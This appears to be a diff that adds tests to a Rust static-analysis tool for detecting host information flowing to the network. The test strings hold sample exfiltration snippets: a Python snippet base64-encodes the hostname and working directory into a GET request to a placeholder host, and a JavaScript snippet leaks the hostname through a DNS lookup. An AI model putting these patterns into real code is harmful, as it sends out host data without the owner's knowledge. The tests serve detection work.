@@ -247,3 +247,23 @@ fn a_timer_given_a_function_name_runs_the_function() {
     let text = "const dns = require('dns');\nfunction sendKA() { sock.write('ka'); }\ndns.lookup(host, (err, address) => { connect(address); setInterval(sendKA, 1000); });\n";
     assert!(js(text).is_empty(), "{:?}", js(text));
 }
+
+#[test]
+fn host_identity_reaches_a_request_through_encoding() {
+    let text = "import os, base64, requests\nmsg = os.uname()[1] + ',' + os.getcwd()  # the host name carries it\nb = base64.b64encode(msg.encode()).decode()\nrequests.get('https://c.example.invalid/?d=' + b)\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn host_identity_logged_is_quiet_and_looked_up_is_a_flow() {
+    let text = "import socket, logging, requests\nhost = socket.gethostname()\nlogging.info('on %s', host)\nrequests.get('https://api.example.invalid/v1')\n";
+    assert!(py(text).is_empty(), "{:?}", py(text));
+    let js_text = "const os = require('os');\nconst dns = require('dns');\ndns.lookup(os.hostname() + '.x.example.invalid', () => {});\n";
+    assert!(js(js_text)
+        .iter()
+        .any(|f| f.0 == FlowKind::HostInfoToNetwork));
+}
